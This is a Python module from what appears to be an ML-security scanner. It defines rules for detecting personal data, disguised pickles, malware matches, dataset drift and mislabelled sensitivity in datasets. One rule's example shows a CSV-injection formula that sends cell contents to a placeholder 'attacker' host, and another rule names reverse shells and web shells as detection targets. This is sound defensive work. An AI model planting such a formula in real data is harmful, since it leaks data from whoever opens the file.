"""Rules of the personal-data, classification and data-integrity checks (DT2xx, DT3xx, DT4xx)."""

from __future__ import annotations

from secplan.model import ControlId, Rule, Severity
from secplan.model.finding import Confidence
from secplan.model.rule import atlas, cwe, url

C = ControlId

PII_IN_DATASET = Rule(
    id="DT201",
    name="personal-data-in-dataset",
    title="Personal data in a dataset",
    severity=Severity.MEDIUM,
    controls=(C("DS4"), C("DS3")),
    summary="A dataset file holds personal data: names, contact details, dates of birth, "
    "addresses, network identifiers, or (high severity) government identifiers, payment cards, "
    "bank accounts or credentials. The finding names the columns, counts and masked examples.",
    rationale="Training data is where an ML project keeps most of its personal data, and a "
    "model can memorise and repeat it. Data-protection law asks for data minimisation and "
    "anonymization or pseudonymization before such data is used for training.",
    example="data/customers.csv: column email holds EMAIL_ADDRESS in 9,812 of 9,900 cells.",
    remediation="Drop the columns training does not need; anonymize the rest with "
    "`secplan data anonymize FILE --policy POLICY --out NEW` and train on the output; label "
    "the dataset (`secplan data classify FILE --write`).",
    confidence=Confidence.MEDIUM,
    references=(cwe(359), url("https://gdpr-info.eu/art-25-gdpr/"), atlas("AML.T0024")),
)

PII_IN_DOCUMENT = Rule(
    id="DT202",
    name="personal-data-in-document",
    title="Personal data in a text, log or document file",
    severity=Severity.MEDIUM,
    controls=(C("DS4"),),
    summary="A text file, log or document in the project holds personal data. Documents "
    "credit people on purpose, so what they publish is not reported: licence, author, "
    "citation and changelog files (LICENSE, AUTHORS, CITATION, CHANGELOG, ...) are checked "
    "for identifiers, payment data and contact details other than names and e-mail "
    "addresses; in READMEs and documentation a line that credits or cites people keeps no "
    "names or e-mail addresses, and a name is reported only with other personal data on its "
    "line. Links, loopback and documentation addresses are never reported, nor are private "
    "network addresses in documentation.",
    rationale="Logs and notes spread personal data to everyone with access to the repository, "
    "and log files are a common source of training text. The authors a project credits and "
    "the people its documents cite are public by intent: reporting them buries the findings "
    "that matter.",
    example="logs/service.log: 412 e-mail addresses and 96 IP addresses in 10,000 lines.",
    remediation="Remove or anonymize the file (`secplan data anonymize`), and stop writing "
    "personal data to logs (mask it at the source).",
    confidence=Confidence.MEDIUM,
    references=(cwe(532),),
)

PII_SCAN_INCOMPLETE = Rule(
    id="DT203",
    name="pii-scan-incomplete",
    title="File only partly checked for personal data",
    severity=Severity.LOW,
    controls=(C("DS4"), C("SC5")),
    summary="A file was larger than the per-file limit of `secplan scan` (or could not be read "
    "to the end), so only its beginning was checked for personal data.",
    rationale="What was not read was not verified; a clean result for part of a file says "
    "nothing about the rest.",
    example="data/events.csv: 8 MiB of 3.2 GiB checked.",
    remediation="Run `secplan data scan FILE`, which reads whole files on all cores, and keep "
    "its report as evidence.",
)

TYPE_MISMATCH = Rule(
    id="DT301",
    name="content-type-mismatch",
    title="Data file whose content is not what its name says",
    severity=Severity.HIGH,
    controls=(C("DS5"),),
    summary="The bytes of a data file do not match the format of its extension: a `.csv` that is "
    "a pickle, a `.parquet` without its signature, an archive named as text.",
    rationale="Loaders pick a parser by name and by content in different places; a mismatch is "
    "how a payload is smuggled past a check that trusts the extension, and a sign of corruption.",
    example="data/train.csv starts with 0x80 0x04: it is a Python pickle.",
    remediation="Find out where the file came from; replace it with a file of the stated format "
    "from a trusted source, or rename it to what it is and review it as such.",
    references=(cwe(434), atlas("AML.T0010")),
)

FORMULA_INJECTION = Rule(
    id="DT302",
    name="spreadsheet-formula-in-data",
    title="CSV cells that a spreadsheet would run as formulas",
    severity=Severity.MEDIUM,
    controls=(C("DS5"),),
    summary="Cells start with `=`, `@` followed by a function, or `+`/`-` followed by a function "
    "call or a DDE reference. Negative numbers and phone numbers do not count.",
    rationale="Opened in a spreadsheet, such cells run: they can exfiltrate data through "
    "HYPERLINK or WEBSERVICE or start programs through DDE (CSV injection).",
    example='comment column: `=HYPERLINK("http://attacker/?"&A1, "click")`.',
    remediation="Prefix such cells with a single quote or strip the leading character when "
    "exporting, and treat the rows as untrusted input.",
    references=(cwe(1236), url("https://owasp.org/www-community/attacks/CSV_Injection")),
)

PICKLE_IN_DATA = Rule(
    id="DT303",
    name="pickle-in-data-file",
    title="Pickled Python objects inside a data file",
    severity=Severity.HIGH,
    controls=(C("DS5"), C("MS4")),
    summary="A data file holds a pickle stream: a NumPy object array (`.npy`, `.npz`), a pandas "
    "HDF5 store with object columns, or a pickle under a data file's name.",
    rationale="Loading the file (`numpy.load(allow_pickle=True)`, `pandas.read_hdf`) unpickles "
    "it, which can run any code. Data formats should hold data only.",
    example="features.npy has dtype object.",
    remediation="Run `secplan model scan FILE` to see what the pickle would do (the MF rules); "
    "re-export the data in a format without code (numeric arrays, Parquet, CSV).",
    references=(cwe(502), atlas("AML.T0011")),
)

MALWARE_SIGNATURE = Rule(
    id="DT304",
    name="malware-signature-in-data",
    title="Data file matching a malware rule",
    severity=Severity.CRITICAL,
    controls=(C("DS5"), C("MS4")),
    summary="A data or document file matches one of the bundled YARA rules: an executable, a "
    "reverse shell, an encoded PowerShell command, a web shell, an encoded pickle, stored "
    "script, or the EICAR test file.",
    rationale="Datasets and scraped text are a path into pipelines that unpack, render or "
    "evaluate what they hold.",
    example="raw/pages.jsonl matches reverse_shell_command at offset 18231.",
    remediation="Quarantine the file, trace its source, and remove the records that match "
    "before the data is used.",
    references=(atlas("AML.T0010"),),
)

ANTIVIRUS_DETECTION = Rule(
    id="DT305",
    name="antivirus-detection",
    title="Data file detected by ClamAV",
    severity=Severity.CRITICAL,
    controls=(C("DS5"), C("MS4")),
    summary="ClamAV (clamdscan or clamscan, when installed) reports a signature in the file.",
    rationale="Known malware in a dataset is an incident: whoever handles the data is exposed.",
    example="downloads/images.zip: Win.Trojan.Agent FOUND.",
    remediation="Quarantine the file and follow the incident-response playbook for poisoned data.",
)

UNDECODABLE_TEXT = Rule(
    id="DT306",
    name="undecodable-text-data",
    title="Text data that is not valid UTF-8",
    severity=Severity.LOW,
    controls=(C("DS5"),),
    summary="A CSV, JSON or text data file holds bytes that are not UTF-8, or NUL bytes.",
    rationale="Loaders replace or drop such bytes differently, so two tools see different data; "
    "binary content in a text file can also hide a payload.",
    example="data/reviews.csv: first invalid byte at offset 18231.",
    remediation="Re-export the data as UTF-8 and check the source for corruption.",
)

MALFORMED_RECORDS = Rule(
    id="DT307",
    name="malformed-records",
    title="Records over the size limits or malformed",
    severity=Severity.LOW,
    controls=(C("DS5"),),
    summary="Rows with more cells than the limit, cells or lines over the size limit, or lines "
    "that are not JSON in a JSON Lines file.",
    rationale="Oversized and malformed records break loaders in different ways, and are a "
    "classic way to smuggle data past validation.",
    example="line 18: 1,048,577 characters in one cell.",
    remediation="Fix the producer; drop or repair the records before training.",
)

PROFILE_DIFFERS = Rule(
    id="DT308",
    name="dataset-differs-from-profile",
    title="Dataset files or schema differ from the recorded profile",
    severity=Severity.MEDIUM,
    controls=(C("DS5"), C("MS1")),
    summary="A dataset with a profile under `.secplan/profiles/` has missing or changed files, or "
    "columns that appeared, vanished or changed type.",
    rationale="Changes that nobody recorded are how corrupted or poisoned data enters training.",
    example="column age changed type from number to text.",
    remediation="Review the change; if it is intended, profile the dataset again "
    "(`secplan data profile PATH`).",
)

STATISTICS_DRIFT = Rule(
    id="DT309",
    name="dataset-statistics-drift",
    title="Dataset statistics drift from the recorded profile",
    severity=Severity.MEDIUM,
    controls=(C("DS5"),),
    summary="More missing values, values outside the profiled ranges, a shifted distribution "
    "(PSI over the profiled deciles), more duplicate rows, or a shifted label distribution.",
    rationale="These are the marks data poisoning leaves: label flipping shifts the label "
    "distribution, injected records add duplicates and outliers.",
    example="label distribution of label shifted (total variation 0.25).",
    remediation="Compare the new records with the old ones; find their source; remove what "
    "does not belong, or profile again if the change is real.",
    references=(atlas("AML.T0020"),),
)

CHECK_INCOMPLETE = Rule(
    id="DT310",
    name="data-check-incomplete",
    title="Data-integrity check that could not run fully",
    severity=Severity.LOW,
    controls=(C("DS5"), C("SC5")),
    summary="A dataset was too large to compare with its profile during `secplan scan`, the "
    "malware rules could not run (yara-python is not installed), or a malware scan that ran "
    "could not finish (a YARA error, a ClamAV failure or time-out).",
    rationale="A check that did not run proves nothing; it is reported so it is not mistaken "
    "for a pass.",
    example="yara-python is not installed: the bundled YARA rules did not run.",
    remediation="Install the extra (`pip install 'secplan[yara]'`), or run "
    "`secplan data validate PATH`, which reads whole datasets.",
)

LABEL_BELOW_CONTENT = Rule(
    id="DT401",
    name="label-below-content",
    title="Dataset labelled less sensitive than its content",
    severity=Severity.HIGH,
    controls=(C("DS3"), C("DS4")),
    summary="A dataset record's label is lower than the label its content calls for, such as "
    "`public` for a file with Social Security numbers.",
    rationale="Encryption, access control, anonymization and retention follow the label; a label "
    "that is too low switches those protections off.",
    example="data/customers.csv is labelled public but holds US_SSN and PERSON.",
    remediation="Raise the label (`secplan data classify FILE --write`), or remove the personal "
    "data and scan again.",
)

ALL = (
    PII_IN_DATASET,
    PII_IN_DOCUMENT,
    PII_SCAN_INCOMPLETE,
    TYPE_MISMATCH,
    FORMULA_INJECTION,
    PICKLE_IN_DATA,
    MALWARE_SIGNATURE,
    ANTIVIRUS_DETECTION,
    UNDECODABLE_TEXT,
    MALFORMED_RECORDS,
    PROFILE_DIFFERS,
    STATISTICS_DRIFT,
    CHECK_INCOMPLETE,
    LABEL_BELOW_CONTENT,
)
BY_ID = {r.id: r for r in ALL}
